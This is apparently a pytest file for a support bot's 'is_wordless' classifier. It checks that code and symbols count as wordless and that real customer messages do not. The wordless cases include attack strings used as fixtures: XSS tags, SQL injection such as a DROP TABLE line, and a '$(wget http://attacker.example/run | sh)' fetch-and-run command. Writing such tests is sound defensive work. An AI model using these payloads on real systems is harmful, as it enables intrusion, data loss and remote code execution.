"""Code, script and symbols hold no word for anybody; a customer's words beside them do."""

import pytest

from bot.wordless import is_wordless


@pytest.mark.parametrize(
    "text",
    [
        "",
        "?!",
        "👍",
        "<script>alert(document.domain)</script>",
        "<img src=q onerror=steal()",
        "'; DROP TABLE orders; --",
        "GROUP BY 7 --",
        "root' or 3=3#",
        "$(wget http://attacker.example/run | sh)",
        "%d%d%d",
        "{0}",
        "--verbose",
        "file:///",
        "{ [ ( ] } ) | ^ ~ { [ ( ] } ) | ^ ~ go",
        "def leak(a):\n    b = a.split()\n    return b\nleak(1)",
    ],
)
def test_code_and_symbols_are_wordless(text: str) -> None:
    assert is_wordless(text)


@pytest.mark.parametrize(
    "text",
    [
        "help!!!!!!!!!!!!!!!!!!",
        "please 😭😭😭😭😭😭😭😭😭😭😭😭",
        "and 402?",
        "LM-20481937",
        "E-104",
        "order?",
        "I order by 12, when does it come?",
        "the page says <b>not found</b>, what now?",
        "Error: ENOENT: no such file or directory, open '/app/settings.json'",
        "git push --force is refused",
        "can I return the item(s)?",
        "1. open the app\n2. it crashes (always)\n3. nothing helps",
        "Where is my parcel?\n\n----------------\nAda\n----------------",
        "配送はいつですか",
    ],
)
def test_what_a_customer_says_is_not_wordless(text: str) -> None:
    assert not is_wordless(text)
